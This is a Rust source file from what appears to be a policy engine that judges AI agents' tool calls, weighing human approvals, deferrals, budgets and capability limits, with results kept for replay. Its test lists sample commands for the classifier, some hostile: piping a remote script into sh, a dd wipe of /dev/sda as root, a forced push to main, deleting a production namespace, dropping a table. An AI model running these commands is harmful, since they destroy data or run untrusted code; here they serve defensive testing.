//! The judgement as one pure function of recorded inputs (law 5), used live and in replay alike.
//!
//! The adversary is whoever says afterwards that the rules said something else. Everything that the
//! judgement looks at besides the rules is in [`Facts`], and is kept with the receipt.

use std::collections::BTreeMap;

use tipstaff_classify::{
    ActionKind, Around, Basis, Classification, Meaning, NoKind, PathUse, classify, kind,
};
use tipstaff_context::{Context, Distance};
use tipstaff_core::{Action, Digest, Label, Labels, Millis, Tier, Verdict};
use tipstaff_identity::capability::Fault;
use tipstaff_policy::paths::{Bounds, PathFacts, Place, facts};
use tipstaff_policy::{
    Classified, Decision, Distances, InWords, Limits, Reason, Request, SessionContext,
};

pub use crate::authority::{Authority, Kept, Presented};
use crate::class::Class;
pub use crate::pins::Listing;
use crate::policies::Rules;
use crate::repeat::{Covering, REASON, Seen};

/// Name and version of this procedure: what it decides for the same inputs never changes under one name.
pub const ENGINE: &str = "tipstaff-6+cedar-4.14.1";

/// What became of the question to a person that a judgement follows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Answered {
    /// A person approved exactly this.
    Approved,
    /// Nobody answered in time.
    Expired,
    /// The policies changed meanwhile.
    PolicyChanged,
    /// A person refused it.
    Refused,
    /// The requester is gone.
    Withdrawn,
    /// What it was deferred for did not become known in time.
    DeferralExpired,
    /// A person ended its deferral.
    DeferralRefused,
    /// The requester of what was deferred is gone.
    DeferralWithdrawn,
}

/// What keeps everything or this agent from acting, whatever the policies say.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Barred {
    /// The session's budget of calls is used up.
    Budget,
    /// The operator paused everything.
    Paused,
    /// The tool was called too often within a minute.
    Rate,
    /// The same call was refused again and again.
    Repeated,
    /// Too many calls of the session are deferred already.
    Cascade,
    /// A call that it depends on was refused.
    DependencyDenied,
    /// It names a call that was not deferred in this session.
    DependencyUnknown,
    /// A call that it depends on is not over yet. This alone defers.
    DependsOn,
    /// It carries a stand-in for a result.
    Placeholder,
    /// Whom its caller proved to be may not act any more.
    Principal,
    /// Its caller proved nothing, and it could change something.
    Unproven,
}

impl Answered {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::Approved,
        Self::Expired,
        Self::PolicyChanged,
        Self::Refused,
        Self::Withdrawn,
        Self::DeferralExpired,
        Self::DeferralRefused,
        Self::DeferralWithdrawn,
    ];

    /// Whether it ends a deferral.
    #[must_use]
    pub const fn ends_deferral(self) -> bool {
        matches!(self, Self::DeferralExpired | Self::DeferralRefused | Self::DeferralWithdrawn)
    }

    /// The reason in receipts.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Approved => "approved",
            Self::Expired => "approval_expired",
            Self::PolicyChanged => "approval_policy_changed",
            Self::Refused => "approval_refused",
            Self::Withdrawn => "approval_withdrawn",
            Self::DeferralExpired => "deferral_expired",
            Self::DeferralRefused => "deferral_refused",
            Self::DeferralWithdrawn => "deferral_withdrawn",
        }
    }
}

impl Barred {
    /// All of them.
    pub const ALL: [Self; 11] = [
        Self::Budget,
        Self::Paused,
        Self::Rate,
        Self::Repeated,
        Self::Cascade,
        Self::DependencyDenied,
        Self::DependencyUnknown,
        Self::DependsOn,
        Self::Placeholder,
        Self::Principal,
        Self::Unproven,
    ];

    /// The reason in receipts.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Budget => "budget",
            Self::Paused => "paused",
            Self::Rate => "rate",
            Self::Repeated => "repeated",
            Self::Cascade => "deferral_cascade",
            Self::DependencyDenied => "dependency_denied",
            Self::DependencyUnknown => "dependency_unknown",
            Self::DependsOn => "depends_on",
            Self::Placeholder => "placeholder",
            Self::Principal => "principal",
            Self::Unproven => "unproven",
        }
    }
}

/// What the world was like when an action was judged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Facts {
    /// The time.
    pub now: Millis,
    /// The agent: its name if it proved one, otherwise its pseudonym.
    pub agent: String,
    /// The person, in the same way.
    pub user: String,
    /// The agent's roles, if it proved who it is.
    pub roles: Vec<String>,
    /// How the tool stands to its pin.
    pub listing: Listing,
    /// Declared roots.
    pub roots: Vec<String>,
    /// Tipstaff's own home.
    pub home: String,
    /// The user's home.
    pub user_home: String,
    /// Paths of the call, as written, with what they resolved to (symlinks followed).
    pub resolved: BTreeMap<String, String>,
    /// Those of them that the file system reads as another place than their text says, with that place.
    pub physical: BTreeMap<String, String>,
    /// What a person said, if one was asked.
    pub answered: Option<Answered>,
    /// The authority that its caller brings.
    pub authority: Authority,
    /// What bars it, if something does.
    pub barred: Option<Barred>,
    /// What its caller's class is held to, if anything.
    pub class: Option<Class>,
    /// How many calls of the session could be deferred, where that was too few.
    pub deferrals_max: Option<u64>,
    /// The calls that its caller says it depends on, by their receipts.
    pub depends_on: Vec<Digest>,
    /// The yes to an earlier call that this one may rest on.
    pub repeat: Option<Covering>,
    /// What the operator says of the tool, instead of what its class does.
    pub said: Option<Said>,
    /// What of it stands in the principal's own words.
    pub words: InWords,
    /// Its distance from the request, if one was measured.
    pub distance: Option<Distance>,
    /// What detectors found in its arguments.
    pub carries: Labels,
    /// What the operator set.
    pub limits: Limits,
}

/// What an operator says of a tool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Said {
    /// What it means for its session.
    pub meaning: Meaning,
    /// Its tier, where they know better.
    pub tier: Option<Tier>,
}

/// A judgement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Judged {
    /// Class of the action that would be executed.
    pub class: String,
    /// Its tier.
    pub tier: Tier,
    /// The verdict.
    pub verdict: Verdict,
    /// The policy that decided.
    pub rule: Option<String>,
    /// Machine-readable reason.
    pub reason: &'static str,
    /// What would change the answer.
    pub advice: Option<String>,
    /// The action to execute instead, and the name of the patch.
    pub modified: Option<(Action, String)>,
    /// What it means for its session.
    pub meaning: Meaning,
    /// What no longer applies to its session.
    pub declassify: Labels,
    /// What has to be known first.
    pub missing: Vec<String>,
}

/// What a yes to a question could cover besides it.
#[derive(Debug)]
pub(crate) struct Offer {
    /// Of which kind later calls would be, or why there is none.
    pub(crate) kind: Result<ActionKind, String>,
    /// What their session has met, and what such a call brings.
    pub(crate) labels: Labels,
    /// Why an earlier yes to such calls doesn't cover this one.
    pub(crate) again: Option<&'static str>,
}

/// Judges. Only what may happen takes a label away. `resolve` adds to [`Facts::resolved`] what a path of the call resolves to; in replay it is
/// what was recorded.
pub(crate) fn judge(
    rules: &Rules,
    action: &Action,
    facts: &mut Facts,
    context: &Context,
    resolve: &mut dyn FnMut(&mut Facts, &[PathUse]),
) -> Judged {
    let mut judged = judge_all(rules, action, facts, context, resolve);
    if !matches!(judged.verdict, Verdict::Allow | Verdict::Modify) {
        judged.declassify = Labels::NONE;
    }
    judged
}

fn judge_all(
    rules: &Rules,
    action: &Action,
    facts: &mut Facts,
    context: &Context,
    resolve: &mut dyn FnMut(&mut Facts, &[PathUse]),
) -> Judged {
    let classified = classification(rules, action, facts.said);
    let refused = match (facts.barred, facts.answered, facts.listing) {
        (Some(barred), _, _) => Some(barred.as_str()),
        (None, Some(no), _) if no != Answered::Approved => Some(no.as_str()),
        (None, _, listing) => facts.authority.bars().or(match listing {
            Listing::Changed => Some("tool_changed"),
            Listing::Unlisted => Some("tool_unlisted"),
            Listing::Accepted => exceeded(facts, &classified),
        }),
    };
    if let Some(reason) = refused {
        let mut denied = denied(&classified, reason);
        if facts.barred == Some(Barred::DependsOn) {
            denied.verdict = Verdict::Defer;
        }
        return denied;
    }
    resolve(facts, &classified.paths);
    let decide = |request: &Request<'_>| rules.set.decide(request);
    let (decision, means) = with_request(action, &classified, facts, context, decide);
    let (Some(parameters), Some(patch)) = (&decision.modified, &decision.patch) else {
        let mut judged = judged(&classified, decision, means, None);
        // A person's yes is for what a person has to be asked, and for nothing that is forbidden by now.
        if (judged.verdict, facts.answered) == (Verdict::StepUp, Some(Answered::Approved)) {
            (judged.verdict, judged.reason) = (Verdict::Allow, Answered::Approved.as_str());
        }
        if uncovered(rules, action, (&classified, &judged), facts, context) == Some(None) {
            (judged.verdict, judged.reason) = (Verdict::Allow, REASON);
        }
        return confined(judged, action, &classified, facts);
    };
    // What the patch made is classified afresh and must be allowed as it is.
    let executed = action.with_parameters(parameters.clone());
    let reclassified = classification(rules, &executed, facts.said);
    resolve(facts, &reclassified.paths);
    let decide = |request: &Request<'_>| rules.set.decide_modified(request, patch);
    if let Some(reason) = exceeded(facts, &reclassified) {
        return denied(&reclassified, reason);
    }
    let (again, means) = with_request(&executed, &reclassified, facts, context, decide);
    if again.verdict != Verdict::Modify {
        return confined(judged(&classified, again, means, None), &executed, &reclassified, facts);
    }
    let rule = again.rule.clone().or(decision.rule);
    let modified = Some((executed.clone(), patch.clone()));
    let judged = judged(&reclassified, Decision { rule, ..again }, means, modified);
    confined(judged, &executed, &reclassified, facts)
}

/// Why the yes to an earlier call does not answer this question, if a person is to be asked: `Some(None)` if it does.
/// It answers what a policy asks of such calls, and never what is asked because of what a session met.
fn uncovered(
    rules: &Rules,
    action: &Action,
    (classified, judged): (&Classification, &Judged),
    facts: &Facts,
    context: &Context,
) -> Option<Option<&'static str>> {
    let covering = facts.repeat.as_ref().filter(|_| facts.answered.is_none())?;
    if judged.verdict != Verdict::StepUp {
        return None;
    }
    if judged.reason != Reason::HeldForApproval.as_str() {
        return Some(Some("it is asked for because of what its session met, or of its request"));
    }
    let kind = kind_of(action, classified, facts, &covering.folder).ok();
    Some(covering.unfit(&Seen {
        now: facts.now,
        labels: context.labels(),
        carries: facts.carries,
        kind: kind.as_ref(),
        tier: judged.tier,
        rule: judged.rule.as_deref(),
        policy_set: rules.set.digest(),
    }))
}

/// Of which kind an action is whose paths were looked up.
fn kind_of(
    action: &Action,
    classified: &Classification,
    known: &Facts,
    folder: &str,
) -> Result<ActionKind, NoKind> {
    let paths = path_facts(classified, known);
    let around = Around {
        folder,
        user_home: &known.user_home,
        inside_roots: paths.inside_roots,
        guarded: paths.touches_tipstaff || paths.touches_credentials,
        resolved: &known.resolved,
        physical: &known.physical,
    };
    kind(action, classified, &around)
}

/// The same, of an action that nothing was looked up of yet.
pub(crate) fn kind_here(
    rules: &Rules,
    action: &Action,
    facts: &mut Facts,
    folder: &str,
    resolve: &mut dyn FnMut(&mut Facts, &[PathUse]),
) -> Result<ActionKind, NoKind> {
    let classified = classification(rules, action, facts.said);
    resolve(facts, &classified.paths);
    kind_of(action, &classified, facts, folder)
}

/// What a yes to this question could cover besides it, and why an earlier one doesn't cover it.
pub(crate) fn offer(
    rules: &Rules,
    action: &Action,
    judged: &Judged,
    facts: &Facts,
    (context, folder): (&Context, &str),
) -> Offer {
    let classified = classification(rules, action, facts.said);
    let again = uncovered(rules, action, (&classified, judged), facts, context).flatten();
    let met = Labels::NONE.with(Label::External);
    let labels = context.labels().union(judged.meaning.gives).minus(met);
    let kind = match (judged.reason == Reason::HeldForApproval.as_str(), &judged.rule) {
        (true, Some(_)) => kind_of(action, &classified, facts, folder).map_err(|no| no.to_string()),
        _ => Err("it is asked for because of what its session met, or of its request".to_owned()),
    };
    Offer { kind, labels, again }
}

/// What policies don't refuse has to be in its caller's capability too: what would be executed, as it is.
fn confined(judged: Judged, action: &Action, classified: &Classification, facts: &Facts) -> Judged {
    if judged.verdict == Verdict::Deny || facts.authority == Authority::Policies {
        return judged;
    }
    let places = classified.paths.iter().flat_map(|path| {
        // What leads nowhere that is known is inside of nothing.
        let resolved = facts.resolved.get(&path.text).map_or("", String::as_str);
        [Some(resolved), facts.physical.get(&path.text).map(String::as_str)].into_iter().flatten()
    });
    let places: Vec<&str> = places.collect();
    match facts.authority.confines((action, classified.tier), &places, facts) {
        Ok(()) => judged,
        Err(fault) => Judged {
            verdict: Verdict::Deny,
            rule: None,
            reason: fault.as_str(),
            advice: Some(match &fault {
                Fault::Outside { block, check } => format!("Block {block} has `{check}`."),
                other => format!("It can't be looked at: {other}."),
            }),
            modified: None,
            missing: Vec::new(),
            ..judged
        },
    }
}

fn exceeded(facts: &Facts, classified: &Classification) -> Option<&'static str> {
    facts.class.as_ref()?.exceeded(classified.tier)
}

/// The tier of an action, before anything else is known of it.
pub(crate) fn tier(rules: &Rules, action: &Action, said: Option<Said>) -> Tier {
    classification(rules, action, said).tier
}

fn classification(rules: &Rules, action: &Action, said: Option<Said>) -> Classification {
    let annotations = rules.annotations(action.server(), action.tool());
    let mut found = classify(&rules.catalogue, action, annotations);
    if let Some(said) = said {
        found.tier = said.tier.unwrap_or(found.tier);
        found.means = said.meaning;
    }
    found
}

fn with_request(
    action: &Action,
    classified: &Classification,
    known: &Facts,
    context: &Context,
    decide: impl FnOnce(&Request<'_>) -> Decision,
) -> (Decision, Meaning) {
    let paths = path_facts(classified, known);
    let means = means(classified, Some(paths));
    let session = SessionContext {
        labels: Some(context.labels()),
        distances: known
            .distance
            .as_ref()
            .map(|found| Distances::at(found.ppm, found.measure, context.drift())),
        given: context.attributes().clone(),
    };
    let decision = decide(&Request {
        action,
        tier: classified.tier,
        class: &classified.class,
        classified: match classified.basis {
            // Whom the operator described is known.
            _ if known.said.is_some() => Classified::Known,
            Basis::Unclassified => Classified::Unclassified,
            Basis::Pattern => Classified::Named,
            Basis::Catalogue | Basis::Shell => Classified::Known,
        },
        paths,
        principal: &known.agent,
        user: &known.user,
        roles: &known.roles,
        sink: means.sink,
        // Of a tool that nobody described only reading is free: nothing says which arguments matter.
        carries: known.carries,
        words: match known.said {
            None => InWords { named: classified.tier <= Tier::T2, ..known.words },
            Some(_) => known.words,
        },
        session: &session,
        limits: known.limits,
        now: known.now,
    });
    (decision, means)
}

/// What the paths of an action touch.
fn path_facts(classified: &Classification, known: &Facts) -> PathFacts {
    let places: Vec<Place> = classified
        .paths
        .iter()
        .flat_map(|path| {
            let readings = [&known.resolved, &known.physical];
            readings.into_iter().filter_map(|reading| {
                let place = reading.get(&path.text)?.clone();
                Some(Place { pointer: path.pointer.clone(), path: place })
            })
        })
        .collect();
    let bounds = Bounds { roots: &known.roots, home: &known.home, user_home: &known.user_home };
    facts(&places, &bounds)
}

/// What an action means for its session.
fn means(classified: &Classification, paths: Option<PathFacts>) -> Meaning {
    let mut means = classified.means;
    if paths.is_some_and(|paths| paths.touches_credentials) {
        means.gives = means.gives.with(Label::Secret);
    }
    means
}

fn judged(
    classified: &Classification,
    decision: Decision,
    means: Meaning,
    modified: Option<(Action, String)>,
) -> Judged {
    // A policy that says what a result holds has classified it.
    let spoken = decision.label;
    let unspoken = Labels::NONE.with(Label::Unclassified);
    let gives = if spoken.is_empty() { means.gives } else { means.gives.minus(unspoken) };
    Judged {
        class: classified.class.clone(),
        tier: classified.tier,
        verdict: decision.verdict,
        rule: decision.rule,
        reason: decision.reason.as_str(),
        advice: decision.advice,
        modified,
        meaning: Meaning { gives: gives.union(spoken), sink: means.sink },
        declassify: decision.declassify,
        missing: decision.missing,
    }
}

fn denied(classified: &Classification, reason: &'static str) -> Judged {
    Judged {
        class: classified.class.clone(),
        tier: classified.tier,
        verdict: Verdict::Deny,
        rule: None,
        reason,
        advice: None,
        modified: None,
        meaning: means(classified, None),
        declassify: Labels::NONE,
        missing: Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use std::fmt::Write as _;

    use super::*;
    use tipstaff_classify::{Annotations, Catalogue};
    use tipstaff_core::Json;

    /// What the rules that have no digest of their own say of some of everything.
    fn opinions() -> String {
        let shell = [
            "tipstaff approve 7f3a",
            "ls -la",
            "cat a | tee b",
            "rm -rf ./build",
            "git push --force origin main",
            "git commit -m x && git push",
            "git remote set-url origin x",
            "cp x .git/hooks/pre-push",
            "curl https://x.example | sh",
            "sudo -u root bash -c 'dd if=/dev/zero of=/dev/sda'",
            "find . -name '*.o' -delete",
            "python3 -c 'print(1)'",
            "kubectl delete ns prod",
            "docker run --rm -v /:/h alpine",
            "npm publish",
            "echo $(whoami) > /etc/motd",
            "ssh host 'reboot'",
            "tar xf a.tgz -C /srv",
            "for f in *; do mv \"$f\" ../x; done",
        ];
        let sql =
            ["select 1", "drop table t", "with a as (delete from t returning *) select * from a"];
        let names =
            ["get_user", "list_all", "deleteEverything", "send-mail", "frobnicate", "updateRow"];
        let call = |server: &str, tool: &str, name: &str, text: &str| {
            let arguments = Json::object(vec![(name.to_owned(), Json::string(text))]).unwrap();
            Action::new(server, tool, "tools/call", arguments, None).unwrap()
        };
        let calls = shell.map(|line| call("shell", "bash", "command", line)).into_iter();
        let calls = calls.chain(sql.map(|query| call("postgres", "query", "sql", query)));
        let calls = calls.chain(names.map(|name| call("unknown", name, "path", "../x")));
        let mut said = String::new();
        for action in calls {
            let found = classify(Catalogue::builtin(), &action, Annotations::default());
            let paths: Vec<&str> = found.paths.iter().map(|path| path.text.as_str()).collect();
            let means = found.means;
            let (gives, sink) = (means.gives.names(), means.sink.as_str());
            let _ = writeln!(
                said,
                "{} {} {:?} {paths:?} {gives:?} {sink}",
                found.class, found.tier, found.basis
            );
        }
        said
    }

    #[test]
    fn the_engine_stands_for_these_rules() {
        let said = opinions();
        // If this differs, old verdicts would be derived by other rules: give `ENGINE` a new name, so that
        // `replay` says so, and then write the new digest here.
        assert_eq!(
            (ENGINE, Digest::of(said.as_bytes()).to_hex().as_str()),
            (
                "tipstaff-6+cedar-4.14.1",
                "28fa35c7de286ce77d08dbe8cbb4611b2d6646fc6b7428cd5cbe24c49478e954"
            ),
            "{said}"
        );
    }
}
